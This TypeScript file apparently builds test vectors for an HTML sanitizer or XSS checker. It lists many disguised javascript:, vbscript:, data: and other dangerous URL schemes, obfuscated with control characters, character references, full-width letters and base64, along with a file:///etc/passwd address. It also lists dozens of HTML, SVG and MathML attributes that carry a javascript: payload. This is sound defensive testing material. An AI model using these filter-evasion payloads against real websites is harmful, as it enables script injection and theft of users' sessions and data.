import type { Probe, Vector } from './vector.ts';

const base64 = (text: string): string => btoa(text);

/** Addresses that run something, as they may be disguised. */
const schemes: readonly (readonly [string, (probe: Probe) => string])[] = [
  ['plain', ({ js }) => `javascript:${js}`],
  ['mixed case', ({ js }) => `JaVaScRiPt:${js}`],
  ['leading spaces', ({ js }) => ` \t\r\n javascript:${js}`],
  ['tab inside', ({ js }) => `java\tscript:${js}`],
  ['line break inside', ({ js }) => `java\nscript\r\n:${js}`],
  ['leading control', ({ js }) => `\u0001\u001fjavascript:${js}`],
  ['character references', ({ js }) => `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js}`],
  ['hexadecimal references without semicolons', ({ js }) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${js}`],
  ['named references', ({ js }) => `java&Tab;script&colon;${js}`],
  ['new line reference', ({ js }) => `java&NewLine;script:${js}`],
  ['percent', ({ js }) => `javascript:${js.replace('(', '%28')}`],
  ['comment for a host', ({ js }) => `javascript://example.com/%0a${js}`],
  ['looks like http', ({ js }) => `javascript:"http://example.com/";${js}`],
  ['full-width letters', ({ js }) => `ｊａｖａｓｃｒｉｐｔ:${js}`],
  ['zero-width space', ({ js }) => `java\u200bscript:${js}`],
  ['byte order mark', ({ js }) => `\ufeffjavascript:${js}`],
  ['no-break space', ({ js }) => `\u00a0javascript:${js}`],
  ['dotless i', ({ js }) => `javascrıpt:${js}`],
  ['vbscript', ({ js }) => `vbscript:${js}`],
  ['livescript', ({ js }) => `livescript:${js}`],
  ['data html', ({ js }) => `data:text/html,<script>${js}</script>`],
  ['data html in base64', ({ js }) => `data:text/html;base64,${base64(`<script>${js}</script>`)}`],
  ['data svg', ({ js }) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`],
  ['data xhtml', ({ js }) => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${js}</script>`],
  ['data without type', ({ js }) => `data:,<script>${js}</script>`],
  ['blob', () => 'blob:null/1'],
  ['filesystem', () => 'filesystem:http://example.com/temporary/x.html'],
  ['file', () => 'file:///etc/passwd'],
  ['view-source', ({ url }) => `view-source:${url}`],
  ['extension page', () => 'chrome-extension://abcdefghijklmnopabcdefghijklmnop/src/popup/index.html'],
  ['browser page', () => 'chrome://settings/'],
  ['about', () => 'about:srcdoc'],
  ['intent', () => 'intent://x#Intent;scheme=javascript;end'],
  ['jar', ({ url }) => `jar:${url}!/x.html`],
  ['feed', ({ js }) => `feed:javascript:${js}`],
  ['ws', () => 'ws://localhost:1/x'],
];

/** Where each disguise is tried. */
const link = (address: string): string => `<a href="${address}">可以读的链接</a>`;

/** Attributes that take an address, each with one that runs something. */
const carriers: readonly string[] = [
  '<img src="%">', '<img srcset="% 1x">', '<img src="https://example.com/a.png" longdesc="%">', '<img lowsrc="%" dynsrc="%">', '<picture><source srcset="%"><img></picture>',
  '<area href="%" shape=rect coords="0,0,99,99">', '<map name=m><area href="%"></map><img usemap="#m">', '<form action="%"><button>x</button></form>', '<form><button formaction="%">x</button></form>',
  '<form><input type=submit formaction="%"></form>', '<isindex action="%" type=image>', '<iframe src="%"></iframe>', '<frame src="%">', '<frameset><frame src="%"></frameset>', '<object data="%"></object>',
  '<object><param name=movie value="%"></object>', '<embed src="%">', '<applet code="%"></applet>', '<portal src="%"></portal>', '<fencedframe src="%"></fencedframe>', '<webview src="%"></webview>',
  '<base href="%"><a href="x">x</a>', '<link rel=stylesheet href="%">', '<link rel=import href="%">', '<link rel=icon href="%">', '<meta http-equiv=refresh content="0;url=%">', '<meta http-equiv=Link content="<%>; rel=stylesheet">',
  '<video src="%"></video>', '<video poster="%"></video>', '<audio src="%"></audio>', '<source src="%">', '<track src="%">', '<bgsound src="%">', '<body background="%">', '<table background="%"><tr><td>x</table>',
  '<td background="%">x', '<q cite="%">x</q>', '<blockquote cite="%">x</blockquote>', '<ins cite="%">x</ins>', '<a href="https://example.com/" ping="%">x</a>', '<a xlink:href="%">x</a>', '<a href="#" formaction="%">x</a>',
  '<svg><a href="%"><text y=20>x</text></a></svg>', '<svg><a xlink:href="%"><rect width=99 height=99 /></a></svg>', '<svg><use href="%#x"/></svg>', '<svg><image xlink:href="%"/></svg>', '<svg><script href="%"></script></svg>',
  '<svg><feImage href="%"/></svg>', '<svg><a><animate attributeName=href values="%"/><text y=20>x</text></a></svg>', '<svg><a><set attributeName=href to="%"/><text y=20>x</text></a></svg>',
  '<svg><handler type="text/javascript" xlink:href="%"/></svg>', '<svg><foreignObject><iframe src="%"></iframe></foreignObject></svg>', '<math href="%">x</math>', '<math><maction actiontype="statusline#x" xlink:href="%">x</maction></math>',
  '<math><mi xlink:href="%">x</mi></math>', '<input type=image src="%">', '<input list=l><datalist id=l><option value="%"></datalist>', '<div data="%" src="%" href="%">x</div>', '<html manifest="%">', '<xml src="%"></xml>', '<layer src="%"></layer>', '<ilayer src="%"></ilayer>',
];

const disguised: Vector[] = schemes.map(([name, address]) => ({ kind: 'address', name, make: (probe) => link(address(probe)) }));
const pictured: Vector[] = schemes.slice(0, 26).filter((_, index) => index % 2 === 0 || index > 18).map(([name, address]) => ({ kind: 'address of a picture', name, make: (probe) => `<img src="${address(probe)}" alt="可以读的话">` }));
const carried: Vector[] = carriers.map((markup) => ({ kind: 'address carrier', name: markup, make: ({ js }) => markup.replaceAll('%', `javascript:${js}`) }));

export const addresses: Vector[] = [...disguised, ...pictured, ...carried];
